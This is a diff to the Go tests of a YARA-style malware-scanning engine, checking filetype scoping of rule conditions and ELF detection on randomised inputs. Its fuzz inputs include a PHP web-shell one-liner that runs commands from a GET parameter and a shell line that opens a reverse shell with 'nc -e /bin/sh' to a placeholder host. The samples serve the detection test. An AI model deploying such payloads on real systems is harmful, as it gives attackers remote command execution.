@@ -7,6 +7,7 @@ import (
 	"io"
 	"io/fs"
 	"math"
+	"math/rand"
 	"os"
 	"os/exec"
 	"path/filepath"
@@ -49,7 +50,10 @@ func TestConditionAllows(t *testing.T) {
 		{"filesize < 2 * 1024", allows{{all, 0, max}}}, // arithmetic: not read
 		{"filetype == \"PE\" and $a", allows{{mz, 2, max}}},
 		{"\"ELF\" == filetype", allows{{elf, 4, max}}},
-		{"filetype == \"script\"", allows{{all, 0, max}}},
+		{"filetype == \"script\"", allows{{mz | other, 0, max}}},
+		{"filetype == \"PHP\" and filesize < 100KB", allows{{mz | other, 0, 100*1024 - 1}}},
+		{"filetype == \"binary\"", allows{{all, 0, max}}},
+		{"filetype != \"PHP\"", allows{{all, 0, max}}},
 		{"pe.is_pe and pe.number_of_sections > 3", allows{{mz, 2, max}}},
 		{"uint16(0) == 0x5a4d == true", allows{{all, 0, max}}},
 		{"uint16(2) == 0x5a4d", allows{{all, 0, max}}},
@@ -423,5 +427,34 @@ func TestScopedMatchesUnscoped(t *testing.T) {
 	// The comparison means something only if the rules fire on every class.
 	if byClass[0] == 0 || byClass[1] == 0 || byClass[2] == 0 {
 		t.Errorf("the generated rules matched MZ %d, ELF %d and other %d times: want matches in every class", byClass[0], byClass[1], byClass[2])
+	}
+}
+
+// Scoping leaves a rule that wants a filetype other than ELF or binary out of the ELF class's
+// sets: it holds only while every file with the ELF magic is typed ELF or binary, whatever
+// follows the magic and whatever the file is called.
+func TestELFMagicTypes(t *testing.T) {
+	rng := rand.New(rand.NewSource(1))
+	tails := []string{"", "\x01", "<?php system($_GET['c']); ?>", "#!/bin/sh\nnc -e /bin/sh h 1\n", "<%@ page import=\"java.io.*\" %>",
+		"\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x03\x00>\x00", "\x02\x01\x01" + strings.Repeat("\x00", 9) + "\x04\x00>\x00<?php"}
+	names := []string{"", "x.php", "shell.jsp", "run.sh", "libx.so.1", "/usr/bin/x", "a.aspx", "README"}
+	for range 2000 {
+		tail := tails[rng.Intn(len(tails))]
+		if rng.Intn(2) == 0 {
+			b := make([]byte, rng.Intn(600))
+			rng.Read(b)
+			if rng.Intn(2) == 0 {
+				for i := range b {
+					b[i] = ' ' + b[i]%95 // printable: text after the magic
+				}
+			}
+			tail += string(b)
+		}
+		data := []byte("\x7fELF" + tail)
+		name := names[rng.Intn(len(names))]
+		ft, _ := detect(data, name)
+		if classOf(data) != 1 || ft != TypeELF && ft != TypeBinary {
+			t.Fatalf("%q named %q: class %d, filetype %q", data, name, classOf(data), ft)
+		}
 	}
 }
